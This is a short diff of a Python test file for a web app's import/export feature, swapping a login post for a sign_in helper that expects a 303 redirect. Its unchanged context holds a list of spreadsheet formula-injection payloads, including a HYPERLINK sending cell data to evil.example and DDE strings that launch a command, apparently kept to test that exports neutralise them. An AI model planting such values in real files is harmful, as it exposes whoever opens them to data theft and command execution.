@@ -27,6 +27,7 @@ from dealdesk.web.app import create_app
 from tests.conftest import empty_all_tables
 from tests.moving_in.conftest import Mover
 from tests.moving_in.history import line
+from tests.web_sign_in import sign_in
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
 PASSWORD = "guarded cells only"
@@ -129,8 +130,8 @@ def browser(engine: Engine, settings: Settings) -> Iterator[TestClient]:
     """A manager signed in to the web UI, as a person downloading from the Import / export page is."""
     auth.add_user(SqlUnitOfWork(engine, SystemClock(settings.zone)), "morgan", Role.MANAGER, password=PASSWORD)
     with TestClient(create_app(settings)) as client:
-        signed_in = client.post("/login", data={"name": "morgan", "password": PASSWORD, "next": "/moving"})
-        assert signed_in.status_code == 200, signed_in.text
+        signed_in = sign_in(client, "morgan", PASSWORD, next_path="/moving")
+        assert signed_in.status_code == 303, signed_in.text
         yield client
 
 
